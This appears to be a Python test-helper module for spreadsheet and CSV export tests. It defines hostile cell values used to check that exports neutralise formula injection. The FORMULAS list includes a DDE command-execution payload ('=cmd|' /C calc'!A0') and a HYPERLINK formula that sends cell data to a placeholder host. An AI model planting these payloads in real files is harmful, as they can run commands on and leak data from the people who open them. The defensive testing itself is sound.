"""What the export tests share: hostile texts, strategies, columns, and ways to read a file back."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from segmentation.exports import Column

PHONE = "+966512345678"
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1",
    '=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", " =1+1", "\u00a0=1+1", "\u200f=1+1", "\ufeff=1+1", "\x00=1+1",
    '"=1+1"', "'=1+1", "''=1+1", "+966512345678 ", "+966-512345678", "+12345", "+\u0661\u0662\u0663\u0664\u0665\u0666",
]
SPLITTERS = [
    'a";=1+1', ";=1+1", "Ali;=1+1;x", '";=1+1;"', 'x";=1+1;"', 'a";"=1+1";b', "a\n=1+1;b", "a\t=1+1\tb", "a; =1+1;b",
]
HARMLESS = ["محمد عبد الله", "Ali", "", "'quoted'", "O'Neil", "a=1", "1-2", "a,=1", "x;y", "00123", "1e5", "100%", "😀"]
# Would be taken for markup of our own by a careless writer.
MARKUP = [
    "<r><t>x</t></r>", '<r></r></is></c><c r="Z9"><f>1+1</f></c><c r="Z10" t="inlineStr"><is><r></r>', "<f>1+1</f>",
    "_x0041_", "_x000D_", "&amp;<b>",
]
HOSTILE = FORMULAS + SPLITTERS + MARKUP
TEXTS = [*HOSTILE, *HARMLESS, PHONE]

tricky_text = st.one_of(
    st.text(alphabet="'=+-@\t\r\n;,\" \u200f\uff1d0169a<>_x", max_size=12),
    st.text(st.characters(exclude_categories=()), max_size=30), st.sampled_from(TEXTS))

NAME = [Column("name", "Name", "text")]
ONE_OF_EACH = [
    Column("id", "رقم", "text"), Column("orders", "Orders", "integer"), Column("spent", "Spent", "money"),
    Column("share", "Share", "decimal"), Column("agrees", "Agrees", "boolean"), Column("since", "Since", "instant"),
    Column("born", "Born", "date")]
NOON = datetime(2024, 2, 29, 12, 0, tzinfo=UTC)


def csv_rows(path: Path, separator: str = ",") -> list[list[str]]:
    """The rows of a CSV file, heading first, cells as they are."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=separator, strict=True))


def xlsx_rows(path: Path) -> dict[str, list[list[Any]]]:
    """The rows of each sheet by its title, heading first. openpyxl leaves the escapes of the format in texts."""
    book = openpyxl.load_workbook(path)
    return {sheet.title: [[unescape(cell) if isinstance(cell, str) else cell for cell in row]
                          for row in sheet.iter_rows(values_only=True)] for sheet in book}


def formulas_in(path: Path) -> list[str]:
    """The formula elements in the raw XML of all sheets."""
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets
    return [found for sheet in sheets for found in re.findall(r"<f[ >/].{0,40}", sheet)]
